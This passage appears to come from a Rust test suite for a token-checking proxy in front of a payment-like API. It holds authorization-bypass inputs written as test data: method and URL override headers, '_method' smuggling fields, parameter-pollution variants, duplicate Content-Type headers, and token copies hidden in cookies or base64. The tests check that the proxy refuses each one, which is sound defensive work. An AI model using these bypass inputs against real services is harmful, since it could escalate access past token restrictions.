        line["reason"]
            .as_str()
            .unwrap_or_default()
            .contains(&format!("certificate for {HOST}")),
        "{line}"
    );
    // Request lines keep their shape: no `event`.
    a.assert_held(0);
    let audit = a.proxy.audit();
    assert!(
        audit.last().is_some_and(|l| l.get("event").is_none()),
        "{audit:?}"
    );
}

/// Narrows the arena's root token with attenuation flags.
fn narrow(a: &Arena, flags: &[&str]) -> String {
    let mut args = vec!["attenuate", "api"];
    args.extend_from_slice(flags);
    a.s.run("macaroon", &args).ok().out().to_string()
}

/// The error code of a proxy refusal.
fn code(r: &crate::world::Reply) -> String {
    let v: serde_json::Value = serde_json::from_slice(&r.body).unwrap_or_default();
    v["error"]["code"].as_str().unwrap_or("").to_string()
}

const OVERRIDE_HEADERS: [&str; 5] = [
    "X-HTTP-Method-Override: DELETE",
    "X-HTTP-Method: DELETE",
    "X-Method-Override: DELETE",
    "X-Original-URL: /v1/admin",
    "X-Rewrite-URL: /v1/admin",
];

/// A GET-only token with `X-HTTP-Method-Override: DELETE` (which Google APIs honour) or a
/// URL override reaches the upstream as the GET of the path checked, without the header:
/// reverse proxy over HTTP/1.1, and inside a CONNECT tunnel over HTTP/2.
#[test]
fn method_and_url_override_headers_never_reach_the_upstream() {
    let a = arena(&[]);
    let get_only = narrow(&a, &["--method", "GET", "--path", "/v1/charges"]);
    let ca = a.s.home().join("ca.pem").display().to_string();
    let proxy = a.proxy.url();
    let reverse = format!("{proxy}/v1/charges");
    let auth = bearer(&get_only);
    let mut args = vec![reverse.as_str(), "-H", auth.as_str()];
    for h in OVERRIDE_HEADERS {
        args.extend(["-H", h]);
    }
    assert_eq!(curl(&args).status, 200);
    let tunnelled = format!("https://{HOST}/v1/charges");
    let mut args = vec![
        "--proxy",
        proxy.as_str(),
        "--cacert",
        ca.as_str(),
        "--http2",
        tunnelled.as_str(),
        "-H",
        auth.as_str(),
    ];
    for h in OVERRIDE_HEADERS {
        args.extend(["-H", h]);
    }
    assert_eq!(curl(&args).status, 200);
    let seen = a.sealed.seen();
    assert_eq!(seen.len(), 2);
    for s in &seen {
        assert_eq!((s.method.as_str(), s.target.as_str()), ("GET", "/v1/charges"));
        for (name, _) in &s.headers {
            assert!(
                !OVERRIDE_HEADERS
                    .iter()
                    .any(|h| h.to_ascii_lowercase().starts_with(&format!("{name}:"))),
                "{name} reached the upstream"
            );
        }
    }
    a.assert_held(2);
}

/// Under a method caveat, a `_method` field (Rails, Laravel) in a form or JSON body, or in
/// the query string, is refused naming the caveat; the same body without it goes through.
#[test]
fn a_method_field_is_refused_under_a_method_caveat() {
    let a = arena(&[]);
    let post_only = narrow(&a, &["--method", "POST"]);
    let formtype = "application/x-www-form-urlencoded";
    let refusals: [(&str, &[u8], &[&str]); 5] = [
        (formtype, b"amount=1&_method=DELETE", &[]),
        (formtype, b"amount=1&_METHOD=DELETE", &[]),
        ("application/json", br#"{"_method":"DELETE"}"#, &[]),
        (
            "application/json; charset=utf-8",
            br#"{"_Method":"DELETE","a":1}"#,
            &[],
        ),
        ("text/plain", b"x", &["--url-query", "_method=DELETE"]),
    ];
    for (ct, body, extra) in refusals {
        let dir = tempfile::tempdir().expect("tmp");
        let file = dir.path().join("body");
        std::fs::write(&file, body).expect("body");
        let mut args = vec![
            format!("{}/v1/payment_intents", a.proxy.url()),
            "-H".into(),
            bearer(&post_only),
            "-H".into(),
            format!("Content-Type: {ct}"),
            "--data-binary".into(),
            format!("@{}", file.display()),
        ];
        args.extend(extra.iter().map(|s| s.to_string()));
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let r = curl(&args);
        assert_eq!((r.status, code(&r).as_str()), (403, "caveat_failed"), "{ct}");
        let v: serde_json::Value = serde_json::from_slice(&r.body).expect("json");
        assert_eq!(v["error"]["caveat"], "method in POST");
        assert!(v["error"]["message"].as_str().unwrap_or("").contains("_method"));
    }
    assert_eq!(
        post(&a, &post_only, formtype, b"amount=1&method=x", &[]),
        (200, String::new())
    );
    assert_eq!(a.sealed.seen()[0].body, b"amount=1&method=x");
    a.assert_held(1);
}

/// Names that frameworks read as one field are one field: case variants (Go's
/// encoding/json, ASP.NET), PHP's spellings, and the query string merged with the body.
#[test]
fn fields_that_frameworks_read_as_one_are_one_field() {
    let a = arena(&[]);
    let form = narrow(&a, &["--form", "amount <= 5000"]);
    let json = narrow(&a, &["--json", "/amount <= 5000"]);
    let query = narrow(&a, &["--query", "limit = 10"]);
    let formtype = "application/x-www-form-urlencoded";
    let cases: [(&str, &str, &[u8], &[&str]); 9] = [
        (&json, "application/json", br#"{"amount":1,"AMOUNT":99999}"#, &[]),
        (&form, formtype, b"amount=1&AMOUNT=99999", &[]),
        (&form, formtype, b"amount=1&amount%00=99999", &[]),
        (&form, formtype, b"amount=1&%20amount=99999", &[]),
        (&form, formtype, b"amount=1&amount[]=99999", &[]),
        (&form, formtype, b"amount=1", &["--url-query", "Amount=99999"]),
        (&query, formtype, b"limit=1000", &["--url-query", "limit=10"]),
        (
            &query,
            "application/json",
            br#"{"LIMIT":1000}"#,
            &["--url-query", "limit=10"],
        ),
        (
            &query,
            formtype,
            b"x=1",
            &["--url-query", "+limit=10&limit[]=1000"],
        ),
    ];
    for (token, ct, body, extra) in cases {
        let got = post(&a, token, ct, body, extra);
        assert_eq!(
            got,
            (403, "caveat_failed".to_string()),
            "{}",
            String::from_utf8_lossy(body)
        );
    }
    assert_eq!(
        post(&a, &query, formtype, b"x=1", &["--url-query", "limit=10"]),
        (200, String::new())
    );
    a.assert_held(1);
}

/// Two Content-Type headers are two readings of one body: refused, whatever the token.
#[test]
fn two_content_types_are_refused() {
    let a = arena(&[]);
    let r = raw(
        &a.proxy,
        format!(
            "POST /v1/payment_intents HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {}\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Type: application/json\r\n\
             Content-Length: 8\r\nConnection: close\r\n\r\namount=1",
            a.token
        )
        .as_bytes(),
    );
    assert_eq!(status(&r), 400, "{r}");
    assert!(r.contains("ambiguous_content_type"), "{r}");
    a.assert_held(0);
}

/// A client that stops sending a body the proxy reads gets 408 once `--body-timeout` has
/// passed (audited), nothing reaches the upstream, and the proxy keeps serving.
#[test]
fn a_body_that_stops_arriving_is_cut_off() {
    let a = arena(&["--body-timeout", "1s"]);
    let form = narrow(&a, &["--form", "amount <= 5000"]);
    let mut tcp = TcpStream::connect(a.proxy.addr).expect("connect");
    tcp.set_read_timeout(Some(Duration::from_secs(20)))
        .expect("timeout");
    write!(
        tcp,
        "POST /v1/payment_intents HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {form}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\namount=1"
    )
    .expect("head");
    // The client sends no more; it only reads the answer.
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    while !String::from_utf8_lossy(&out).contains("}}") {
        match tcp.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
        }
    }
    let r = String::from_utf8_lossy(&out).to_string();
    assert_eq!(status(&r), 408, "{r}");
    assert!(
        r.contains("\"code\":\"body_timeout\"") && r.contains("--body-timeout"),
        "{r}"
    );
    let line = a
        .proxy
        .audit()
        .into_iter()
        .find(|l| l["status"] == 408)
        .expect("an audit line for the 408");
    assert_eq!(line["decision"], "deny");
    a.assert_held(0);
}

/// Copies of the token in shapes the token finder does not read, beside the token where
/// the key goes, are refused before the upstream (over HTTP/1.1 and HTTP/2), and the
/// refusal never repeats the token.
#[test]
fn copies_of_the_token_never_reach_the_upstream() {
    use base64::Engine;
    let a = arena(&[]);
    let t = &a.token;
    let std64 = base64::engine::general_purpose::STANDARD.encode(t);
    let url64 = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("u:{t}"));
    let headers = [
        format!("X-Copy: \"{t}\""),
        format!("X-Copy: {t}, other"),
        format!("Cookie: session={t}; theme=dark"),
        format!("Forwarded: for=1.2.3.4;by=\"{t}\""),
        format!("X-Note: please forward {t}"),
        format!("X-Copy: {std64}"),
        format!("X-Copy: {url64}"),
    ];
    let url = format!("{}/v1/charges", a.proxy.url());
    let auth = bearer(t);
    for h in &headers {
        let r = curl(&[&url, "-H", &auth, "-H", h]);
        assert_eq!((r.status, code(&r).as_str()), (400, "token_copy"), "{h}");
        let body = String::from_utf8_lossy(&r.body);
        assert!(
            !body.contains(&t[t.len() - 60..]),
            "the refusal repeats the token"
        );
        assert!(body.contains("send the token once"), "{body}");
    }
    let in_query = format!("{url}?q=see%20{t}%20here");
    let r = curl(&[&in_query, "-H", &auth]);
    assert_eq!((r.status, code(&r).as_str()), (400, "token_copy"));
    // Inside a CONNECT tunnel, over HTTP/2.
    let ca = a.s.home().join("ca.pem").display().to_string();
    let proxy = a.proxy.url();
    let tunnelled = format!("https://{HOST}/v1/charges");
    let cookie = format!("Cookie: session={t}");
    let r = curl(&[
        "--proxy", &proxy, "--cacert", &ca, "--http2", &tunnelled, "-H", &auth, "-H", &cookie,
    ]);
    assert_eq!((r.status, code(&r).as_str()), (400, "token_copy"));
    a.assert_held(0);
}

/// A token sent as the request method is not repeated in the 400 nor logged; a token cut
/// in two across path segments is refused and neither half is logged.
#[test]
fn a_token_as_the_method_or_cut_across_the_path_is_never_shown() {
    let a = arena(&[]);
    let t = a.token.clone();
    let r = raw(
        &a.proxy,
        format!(
            "{t} /v1/charges HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {t}\r\n\
             Connection: close\r\n\r\n"
        )
        .as_bytes(),
    );
    assert_eq!(status(&r), 400, "{r}");
    assert!(!r.contains(&t[..40]) && !r.contains(&t[t.len() - 40..]), "{r}");
    let (first, second) = t.split_at(t.len() / 2);
    let url = format!("{}/v1/{first}/{second}", a.proxy.url());
    let r = curl(&[&url, "-H", &bearer(&t)]);
    assert_eq!((r.status, code(&r).as_str()), (400, "token_copy"));
    let audit = std::fs::read_to_string(&a.proxy.audit_path).unwrap_or_default();
    for piece in [&first[first.len() - 40..], &second[second.len() - 40..], &t[..40]] {
        assert!(
            !audit.contains(piece),
            "a piece of the token is in the audit log:\n{audit}"
        );
    }
    a.assert_held(0);
}
